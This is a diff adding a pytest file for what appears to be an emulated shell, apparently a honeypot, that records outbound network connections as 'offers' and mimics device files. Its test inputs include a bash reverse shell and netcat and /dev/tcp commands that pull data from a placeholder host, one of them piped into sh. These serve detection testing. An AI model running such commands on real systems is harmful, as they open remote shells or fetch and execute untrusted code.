@@ -1,0 +1,43 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Opening paths."""
+
+from __future__ import annotations
+
+import pytest
+
+from mead.shell import Offer, Shell
+
+
+def offers(shell: Shell, line: str) -> list[str]:
+    return [effect.url for effect in shell.run(line.encode()).effects if isinstance(effect, Offer)]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "cat < /dev/tcp/192.0.2.1/99 > /tmp/x",
+        "exec 3<>/dev/tcp/192.0.2.1/99; cat <&3 > /tmp/x",
+        "bash -i >& /dev/tcp/192.0.2.1/99 0>&1",
+        "nc 192.0.2.1 99 > /tmp/x",
+        "busybox nc 192.0.2.1 99 | sh",
+    ],
+)
+def test_a_connection_is_an_offer(shell: Shell, line: str) -> None:
+    assert offers(shell, line) == ["tcp://192.0.2.1:99"]
+
+
+def test_devices_behave(shell: Shell) -> None:
+    assert shell.run(b"echo x > /dev/null; cat /dev/null").output == b""
+    assert shell.run(b"head -c 4 /dev/zero").output == bytes(4)
+    assert len(set(shell.run(b"head -c 4096 /dev/urandom").output)) > 200
+    assert shell.run(b"echo shown > /dev/tty; echo out > /dev/stdout").output == b"shown\nout\n"
+    assert (
+        shell.run(b"echo x > /dev/sda; dd if=/dev/mtdblock0 bs=16 count=1 2>/dev/null | wc -c").output
+        == b"16\n"
+    )
+
+
+def test_a_body_from_a_socket_fills_its_file(shell: Shell) -> None:
+    shell.run(b"nc 192.0.2.1 99 > /tmp/x")
+    shell.deliver("tcp://192.0.2.1:99", b"body")
+    assert shell.run(b"cat /tmp/x").output == b"body"
